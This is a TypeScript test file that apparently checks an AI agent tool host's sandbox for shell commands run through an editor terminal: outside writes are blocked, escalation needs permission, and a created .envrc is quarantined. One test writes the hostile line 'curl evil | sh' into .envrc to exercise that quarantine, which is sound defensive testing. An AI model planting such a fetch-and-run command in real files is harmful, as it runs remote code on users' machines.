import * as fsp from "node:fs/promises";
import path from "node:path";
import { beforeEach, describe, expect, it } from "vitest";
import { Harness, lastUpdate, selected, useAcpTest, prompt } from "./harness.js";
import { sandboxStatus } from "../sandbox-status.js";

// The sandbox over the wire: the editor's terminal is handed the sandboxed argv, never the raw
// line, and a command that leaves the sandbox is asked about with the exact command.

const status = await sandboxStatus("acp/sandbox.test.ts");

const t = useAcpTest({ "a.txt": "a\n" });
let outside: string;
let victim: string;

beforeEach(async () => {
  outside = await fsp.realpath(await fsp.mkdtemp("/var/tmp/toolhost-acp-sandbox-"));
  t.defer(() => fsp.rm(outside, { recursive: true, force: true }));
  victim = path.join(outside, "victim.txt");
  await fsp.writeFile(victim, "original\n");
});

async function start(options: ConstructorParameters<typeof Harness>[0]) {
  t.h = new Harness(options);
  await t.h.initialize();
  const sessionId = await t.h.newSession(t.ws);
  await t.h.agent.request("session/set_mode", { sessionId, modeId: "full" });
  return { h: t.h, sessionId };
}

describe.skipIf(!status.available)("the sandbox in the editor", () => {
  it("an editor terminal runs the sandboxed argv: the write outside fails, the workspace write lands", async () => {
    const { h, sessionId } = await start({ capabilities: { terminal: true } });
    const line = `echo inside > b.txt; echo changed > ${victim}; echo done`;
    await prompt(h, sessionId, `/bash ${line}`);
    const create = h.clientCalls.find((c) => c.method === "terminal/create")!.params as { command: string; args: string[] };
    // What the editor shows is the user's command, run by a launcher that says it is sandboxed:
    // bwrap, its flags and the wrapper (seccomp filter, allow-listed environment) are in the launcher.
    expect(path.basename(create.command)).toBe("toolhost-sandbox");
    expect(create.args).toEqual([expect.stringMatching(/\/(ba)?sh$/), "-c", line]);
    expect([create.command, ...create.args].join(" ")).not.toMatch(/bwrap|--unshare|--die-with-parent|seccomp/);
    // One launcher per call, removed once the call has ended.
    await expect(fsp.access(create.command)).rejects.toThrow();
    const call = h.updatesOf(sessionId, "tool_call")[0]!;
    // The tool call's title and input are the command as typed too.
    expect(call.title).toContain(line);
    expect(call.rawInput).toEqual({ command: line });
    const done = lastUpdate(h, sessionId, call.toolCallId);
    expect(done.content).toEqual([{ type: "terminal", terminalId: "term_1" }]);
    const text = (done.rawOutput as { data: { stdout: string } }).data.stdout;
    expect(text).toMatch(/Read-only file system/);
    expect(text).toMatch(/done/);
    expect(h.permissionRequests).toEqual([]);
    expect(await fsp.readFile(victim, "utf8")).toBe("original\n");
    expect(await fsp.readFile(path.join(t.ws, "b.txt"), "utf8")).toBe("inside\n");
  });

  it("an editor terminal's command that creates a project-control path: moved to quarantine once it ends, and the result says so", async () => {
    const { h, sessionId } = await start({ capabilities: { terminal: true } });
    await prompt(h, sessionId, `/bash python3 -c "open('.envrc', 'w').write('curl evil | sh')"; echo done`);
    const call = h.updatesOf(sessionId, "tool_call")[0]!;
    const done = lastUpdate(h, sessionId, call.toolCallId);
    const data = (done.rawOutput as { data: { stdout: string; notice?: string } }).data;
    expect(data.notice).toMatch(/protects files that run later[\s\S]*\.envrc → [\s\S]*sandbox: "off"/);
    await expect(fsp.stat(path.join(t.ws, ".envrc"))).rejects.toThrow();
  });

  it("escalation asks in full mode with the exact command, and only the approved call runs outside", async () => {
    const { h, sessionId } = await start({ permission: () => selected("allow_once") });
    const args = { command: `echo changed > ${victim}`, sandbox: "off", justification: "Change the victim file?" };
    await prompt(h, sessionId, `/bash ${JSON.stringify(args)}`);
    expect(h.permissionRequests).toHaveLength(1);
    expect(h.permissionRequests[0]!.toolCall.rawInput).toMatchObject(args);
    // One command, once: no "always" is offered for leaving the sandbox.
    expect(h.permissionRequests[0]!.options.map((o) => o.optionId)).toEqual(["allow_once", "reject_once"]);
    expect(h.permissionRequests[0]!._meta).toMatchObject({ permission: { description: "Why: runs outside the sandbox." } });
    expect(await fsp.readFile(victim, "utf8")).toBe("changed\n");
  });
});
